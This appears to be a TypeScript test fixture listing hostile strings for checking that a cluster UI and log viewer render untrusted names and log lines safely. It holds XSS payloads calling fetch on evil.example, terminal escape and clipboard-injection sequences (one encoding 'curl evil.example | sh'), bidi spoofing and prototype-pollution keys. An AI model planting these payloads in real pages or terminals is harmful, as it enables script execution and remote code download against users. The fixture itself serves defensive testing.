/** Sets a mark in the page that ran it; `fetch` would be seen as well. */
const RUN = "window.ranHostileText=1;fetch('//evil.example/')";

/**
 * What a cluster may send where a person expects a word: names, labels, annotations, messages and log lines are written by whoever may
 * write in any namespace of any cluster.
 */
export const hostileTexts: Readonly<Record<string, string>> = {
  markup: `<img src=x onerror="${RUN}"><script>${RUN}</script><svg onload="${RUN}"></svg>`,
  closing: `</title></textarea></script><script>${RUN}</script>`,
  attribute: `" autofocus onfocus="${RUN}" x="' onmouseover='${RUN}`,
  link: `javascript:${RUN}`,
  markdown: `[click](javascript:${RUN}) ![x](http://evil.example/x.png)`,
  template: "{{constructor.constructor('window.ranHostileText=1')()}} ${window.ranHostileText=1} %s %n",
  colour: "\u001b[31mred\u001b[0m\u001b[2J\u001b[H gone \u009b31m",
  terminalLink: "\u001b]8;;http://evil.example/\u0007docs\u001b]8;;\u0007 \u001b]0;title\u0007",
  direction: "invoice\u202egpj.exe\u2066 \u2069\u200f",
  zeroWidth: "pay\u200bme\u2060nts\ufeff\u00ad",
  controls: "nul\u0000bell\u0007back\u0008\u0008\u0008del\u007fline\r\nnext\u2028para\u2029",
  broken: "half \ud83d of an emoji \udc00",
  emoji: "👩‍💻 ships 🏳️‍🌈 👍🏽 1️⃣",
  marks: `z${"\u0301\u0327\u0334\u0489".repeat(60)}algo`,
  scripts: "支付 دفع оплата ȧ̶",
  word: "w".repeat(4000),
  megabyte: `megabyte ${"x".repeat(2 ** 20)}`,
  keys: "__proto__ constructor toString hasOwnProperty",
};

/** What a container may write besides: a line of a log is read in terminals, and says what they would do. */
export const hostileLines: Readonly<Record<string, string>> = {
  ...hostileTexts,
  clipboard: "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007copied",
  runningLink: `\u001b]8;;javascript:${RUN}\u001b\\click\u001b]8;;\u001b\\ \u001b]8;;data:text/html,x\u0007here\u001b]8;;\u0007`,
  cursor: "safe\u001b[1A\u001b[2K\u001b[6n\u001b[?1049h\u001bc\u001bP1$r\u001b\\\r rewritten",
  colours: "\u001b[38;5;999999999m\u001b[;;;;m\u001b[38;2;1m\u001b[4mlast\u001b[0m\u001b[31",
  json: `{"__proto__":{"x":1},"html":"<img src=x onerror=${RUN}>","link":"javascript:${RUN}","turn":"\u202e"}`,
  deep: `${'{"a":['.repeat(5000)}1${"]}".repeat(5000)}`,
  embedded: `INFO {"user":"<script>${RUN}</script>\u0000"} and {"b":`,
};
